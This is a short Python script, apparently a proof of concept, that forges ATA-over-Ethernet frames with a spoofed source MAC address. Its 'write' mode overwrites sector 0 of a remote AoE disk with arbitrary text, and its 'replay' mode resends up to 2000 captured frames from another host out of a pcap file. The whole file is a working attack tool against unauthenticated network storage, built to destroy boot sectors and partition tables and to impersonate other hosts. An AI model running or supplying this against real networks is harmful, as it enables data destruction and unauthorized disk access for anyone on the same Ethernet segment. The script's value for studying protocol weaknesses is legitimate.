# Sends AoE writes and recorded frames with anybody's address: what everybody on an Ethernet can do.
#
#   forge.py write IF SOURCE DESTINATION SHELF SLOT TEXT   writes TEXT over sector 0, in the clear
#   forge.py replay IF SOURCE PCAP                         sends again what SOURCE sent, at most 2000 frames
import socket
import struct
import sys


def mac(text):
    return bytes(int(part, 16) for part in text.split(":"))


def raw_socket(interface):
    out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    out.bind((interface, 0))
    return out


def write(interface, source, destination, shelf, slot, text):
    aoe = struct.pack(">BBHBBI", 0x10, 0, int(shelf), int(slot), 0, 0x1234)
    ata = bytes([0x01 | 0x40, 0, 1, 0x34]) + bytes(8)  # WRITE SECTORS EXT, one sector, LBA 0
    data = (text.encode() * 512)[:512]
    raw_socket(interface).send(mac(destination) + mac(source) + b"\x88\xa2" + aoe + ata + data)


def frames_of(path):
    with open(path, "rb") as file:
        order = "<" if file.read(24)[:4] in (b"\xd4\xc3\xb2\xa1", b"\x4d\x3c\xb2\xa1") else ">"
        while len(header := file.read(16)) == 16:
            yield file.read(struct.unpack(order + "4I", header)[2])


def replay(interface, source, path):
    out = raw_socket(interface)
    sent = 0
    for frame in frames_of(path):
        if frame[6:12] == mac(source) and sent < 2000:
            out.send(frame)
            sent += 1
    print("sent", sent)
    return 0 if sent > 0 else 1


if __name__ == "__main__":
    sys.exit({"write": write, "replay": replay}[sys.argv[1]](*sys.argv[2:]))
